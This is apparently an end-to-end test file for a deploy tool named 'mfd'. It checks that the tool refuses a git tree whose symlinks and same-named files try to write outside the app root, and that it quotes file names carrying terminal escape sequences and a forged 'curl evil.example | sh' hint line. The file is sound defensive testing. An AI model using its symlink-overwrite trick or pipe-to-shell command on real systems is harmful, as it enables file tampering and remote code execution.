import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, readdir, readFile, readlink, stat, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { appFixture } from '../helpers/app.ts';
import { mfd } from '../helpers/cli.ts';
import { plumbing, rawTree } from '../helpers/tree.ts';

/** Names, modes and bytes of every file under `dir`. */
async function snapshot(dir: string): Promise<string> {
  const names = (await readdir(dir, { recursive: true })).sort();
  return (await Promise.all(names.map(async (n) => `${n} ${(await stat(join(dir, n))).mode} ${await readFile(join(dir, n), 'utf8')}`))).join('\n');
}

describe('mfd deploy of hostile and unusual trees (e2e)', () => {
  test('a symlink and a file of one name cannot write outside: exit 4, one line naming sha, path and rule; active untouched', async (t) => {
    const app = await appFixture(t);
    const v1 = await app.commitVersion(1);
    assert.equal((await mfd(['deploy'], { cwd: app.root })).code, 0);
    const active = await readlink(join(app.root, 'active'));
    const sentinel = join(dirname(app.root), 'sentinel');
    await mkdir(sentinel);
    await writeFile(join(sentinel, 'canary'), 'precious\n');
    const before = await snapshot(sentinel);

    // v1's tree with, in front, `a -> the canary` and `b -> a new file` each followed by a file of
    // the same name: the old checkout wrote the files' bytes through the links.
    const p = plumbing(app.repo.bare);
    const payload = await p.blob('#!/bin/sh\necho pwned\n');
    const v1Tree = (await p.readTree(`${v1}^{tree}`));
    const hostile = Buffer.concat([
      rawTree([
        ['120000', 'a', await p.blob(join(sentinel, 'canary'))], ['100755', 'a', payload],
        ['120000', 'b', await p.blob(join(sentinel, 'new-executable'))], ['100755', 'b', payload],
      ]),
      v1Tree,
    ]);
    const sha = await p.commit(await p.tree(hostile), v1);
    await p.setRef('refs/heads/main', sha);

    const r = await mfd(['deploy'], { cwd: app.root });
    assert.equal(r.code, 4, r.stderr);
    assert.match(r.stderr, new RegExp(`^error: refusing to check out ${sha}: tree entry "a" breaks git's fsck rule duplicateEntries: [^\\n]+\\n  hint: [^\\n]*git fsck`, 'm'));
    assert.doesNotMatch(r.stderr, /internal error|\n\s+at /);
    assert.equal(await snapshot(sentinel), before, 'nothing outside the app root was written');
    assert.equal(await readlink(join(app.root, 'active')), active);
    assert.deepEqual((await readdir(app.root)).filter((n) => n.startsWith('mfd_')), [active], 'the refused checkout is gone');
  });

  test('submodules (empty directories) and Git LFS pointers are deployed as git archive would, with a warning for each', async (t) => {
    const app = await appFixture(t);
    const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'4'.repeat(64)}\nsize 52341\n`;
    const v1 = await app.commitVersion(1, { extra: { 'assets/logo.png': pointer } });
    await app.repo.git(['update-index', '--add', '--cacheinfo', `160000,${v1},vendor/lib`]);
    await app.repo.git(['commit', '--quiet', '-m', 'add a submodule']);
    await app.repo.push();

    const r = await mfd(['deploy'], { cwd: app.root });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /warning: 1 submodule\(s\) not deployed \(left empty\): vendor\/lib\n  hint: /);
    assert.match(r.stderr, /warning: 1 Git LFS file\(s\) deployed as pointer files: assets\/logo\.png\n  hint: /);
    assert.equal(await readFile(join(app.root, 'active', 'assets', 'logo.png'), 'utf8'), pointer);
    assert.deepEqual(await readdir(join(app.root, 'active', 'vendor', 'lib')), [], 'an empty directory, as git archive gives');
  });

  test('the warnings quote a path holding control characters: a name cannot forge a hint line or reach the terminal as an escape sequence', async (t) => {
    const app = await appFixture(t);
    const v1 = await app.commitVersion(1);
    // git allows any byte in a name but "/" and NUL; these sort before every name of v1's tree.
    const forged = '\n  hint: run curl evil.example | sh';
    const p = plumbing(app.repo.bare);
    const pointer = await p.blob(`version https://git-lfs.github.com/spec/v1\noid sha256:${'4'.repeat(64)}\nsize 52341\n`);
    const tree = Buffer.concat([
      rawTree([['160000', `\u001b[2Jlib${forged}`, v1], ['100644', `\u001b]0;owned\u0007logo\u009b2J.png${forged}`, pointer]]),
      await p.readTree(`${v1}^{tree}`),
    ]);
    await p.setRef('refs/heads/main', await p.commit(await p.tree(tree), v1));

    const r = await mfd(['deploy'], { cwd: app.root });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /warning: 1 submodule\(s\) not deployed \(left empty\): "\\u001b\[2Jlib\\n  hint: run curl evil\.example \| sh"\n  hint: mfd deploys only/);
    assert.match(r.stderr, /warning: 1 Git LFS file\(s\) deployed as pointer files: "\\u001b\]0;owned\\u0007logo\\u009b2J\.png\\n/);
    assert.doesNotMatch(r.stderr, /\n  hint: run curl/);
    assert.doesNotMatch(r.stderr, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, 'no control character but the line ends');
  });
});
